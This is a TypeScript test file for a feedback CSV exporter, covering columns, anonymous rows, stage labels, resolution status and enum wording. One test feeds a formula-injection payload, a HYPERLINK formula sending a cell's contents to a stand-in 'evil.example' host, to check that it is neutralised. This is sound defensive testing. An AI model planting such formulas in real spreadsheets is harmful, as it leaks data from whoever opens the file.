import type { FeedbackAnswer, FeedbackEntry } from '../../src/domain/feedback';
import { FEEDBACK_CSV_HEADER, feedbackCsv } from '../../src/export/feedback-csv';

const PERSON = { id: 'cccccccc-0000-4000-8000-000000000003', name: 'Megan Bowen' };
const ADMIN = { id: 'aaaaaaaa-0000-4000-8000-000000000001', name: 'Adele Vance' };

const ANSWER: FeedbackAnswer = {
  rating: 4,
  installed: 'yes',
  category: 'sign-in',
  severity: 'none',
  platform: 'ios',
  comment: 'Works',
  shareName: true,
};

const entry = (answer: Partial<FeedbackAnswer> = {}, more: Partial<FeedbackEntry> = {}): FeedbackEntry => ({
  rolloutId: 'ro-test',
  stageId: 'pilot',
  person: PERSON,
  answer: { ...ANSWER, ...answer },
  submittedAt: '2026-02-10T17:30:00.000Z',
  updatedAt: '2026-02-11T08:00:00.000Z',
  resolution: null,
  activities: ['conv|act-1'],
  ...more,
});

const labels = { stage: (stageId: string) => (stageId === 'pilot' ? 'Pilot' : `Stage ${stageId}`) };

/** A compact RFC 4180 reader (csv.test.ts checks the writer against a stricter one). */
const parseCsv = (text: string): string[][] => {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const body = text.slice(1);
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y;
  const rows: string[][] = [];
  let row: string[] = [];
  while (cell.lastIndex < body.length) {
    const m = cell.exec(body);
    if (!m) throw new Error(`not RFC 4180 at ${cell.lastIndex}`);
    const raw = m[1]!;
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
};

/** The rows as records keyed by column, header checked. */
const records = (entries: FeedbackEntry[]): Record<string, string>[] => {
  const [header, ...rows] = parseCsv(feedbackCsv(entries, labels));
  expect(header).toEqual(FEEDBACK_CSV_HEADER);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
};

describe('feedbackCsv', () => {
  it('has the columns in order, and an empty export is the header alone', () => {
    expect(feedbackCsv([], labels)).toBe(
      '\uFEFFStage,Submitted at,Updated at,Name,Person id,Rating,Installed and working,Category,Severity,' +
        'Platform,Comment,Issue status,Resolved by,Resolution note\r\n',
    );
  });

  it('a shared-name row has the name and the id, and enum values as plain words', () => {
    expect(records([entry()])).toEqual([
      {
        Stage: 'Pilot',
        'Submitted at': '2026-02-10T17:30:00.000Z',
        'Updated at': '2026-02-11T08:00:00.000Z',
        Name: 'Megan Bowen',
        'Person id': PERSON.id,
        Rating: '4',
        'Installed and working': 'Yes',
        Category: 'Sign-in',
        Severity: 'None',
        Platform: 'iOS/iPadOS',
        Comment: 'Works',
        'Issue status': '',
        'Resolved by': '',
        'Resolution note': '',
      },
    ]);
  });

  it('an anonymous row has neither the name nor the id, anywhere in the file', () => {
    const csv = feedbackCsv([entry({ shareName: false })], labels);
    expect(csv).not.toContain(PERSON.name);
    expect(csv).not.toContain(PERSON.id);
    const [row] = records([entry({ shareName: false })]);
    expect(row).toMatchObject({ Name: '', 'Person id': '', Comment: 'Works', Rating: '4' });
  });

  it('labels each row with its stage', () => {
    const rows = records([entry(), entry({}, { stageId: 'pilot/wave-1' })]);
    expect(rows.map((r) => r.Stage)).toEqual(['Pilot', 'Stage pilot/wave-1']);
  });

  it('neutralises a formula in a comment, a name and a note', () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const rows = records([
      entry(
        { comment: evil, severity: 'blocker' },
        {
          person: { id: PERSON.id, name: '@Megan' },
          resolution: { by: { ...ADMIN, name: '+Adele' }, at: '2026-02-12T00:00:00.000Z', note: '-fixed' },
        },
      ),
    ]);
    expect(rows[0]).toMatchObject({
      Comment: `'${evil}`,
      Name: "'@Megan",
      'Resolved by': "'+Adele",
      'Resolution note': "'-fixed",
    });
  });

  it('keeps a multi-line comment with quotes and commas in one cell', () => {
    const comment = 'Sign-in loops.\nSteps: "open", tap, wait';
    expect(records([entry({ comment })])[0]?.Comment).toBe(comment);
  });

  it.each<[string, Partial<FeedbackAnswer>, FeedbackEntry['resolution'], [string, string, string]]>([
    ['an open blocker', { severity: 'blocker' }, null, ['Open', '', '']],
    ['an open major issue', { severity: 'major' }, null, ['Open', '', '']],
    [
      'a resolved blocker',
      { severity: 'blocker' },
      { by: ADMIN, at: '2026-02-12T00:00:00.000Z', note: 'Fixed in 2.1' },
      ['Resolved', 'Adele Vance', 'Fixed in 2.1'],
    ],
    [
      'a resolved major issue',
      { severity: 'major' },
      { by: ADMIN, at: '2026-02-12T00:00:00.000Z', note: 'Config pushed' },
      ['Resolved', 'Adele Vance', 'Config pushed'],
    ],
    ['a minor issue', { severity: 'minor' }, null, ['', '', '']],
    // A resolution outlives an edit that lowers the severity; the row is no longer an issue.
    [
      'a resolved blocker since lowered to minor',
      { severity: 'minor' },
      { by: ADMIN, at: '2026-02-12T00:00:00.000Z', note: 'Fixed in 2.1' },
      ['', '', ''],
    ],
  ])('resolution columns: %s', (_name, answer, resolution, [status, by, note]) => {
    const [row] = records([entry(answer, { resolution })]);
    expect([row?.['Issue status'], row?.['Resolved by'], row?.['Resolution note']]).toEqual([
      status,
      by,
      note,
    ]);
  });

  it('the resolving admin is named even on an anonymous row (the admin is not the reporter)', () => {
    const [row] = records([
      entry(
        { severity: 'blocker', shareName: false },
        { resolution: { by: ADMIN, at: '2026-02-12T00:00:00.000Z', note: 'ok' } },
      ),
    ]);
    expect(row).toMatchObject({ Name: '', 'Person id': '', 'Resolved by': 'Adele Vance' });
  });

  it.each<[Partial<FeedbackAnswer>, Partial<Record<string, string>>]>([
    [
      { installed: 'partly', category: 'install', severity: 'major', platform: 'windows' },
      { 'Installed and working': 'Partly', Category: 'Installation', Severity: 'Major', Platform: 'Windows' },
    ],
    [
      { installed: 'no', category: 'functionality', severity: 'minor', platform: 'macos' },
      { 'Installed and working': 'No', Category: 'Functionality', Severity: 'Minor', Platform: 'macOS' },
    ],
    [
      { category: 'performance', severity: 'blocker', platform: 'android' },
      { Category: 'Performance', Severity: 'Blocker', Platform: 'Android' },
    ],
    [
      { category: 'other', platform: 'linux' },
      { Category: 'Other', Platform: 'Linux' },
    ],
    [{ platform: 'web' }, { Platform: 'Web' }],
  ])('writes %j as plain words', (answer, expected) => {
    expect(records([entry(answer)])[0]).toMatchObject(expected);
  });
});
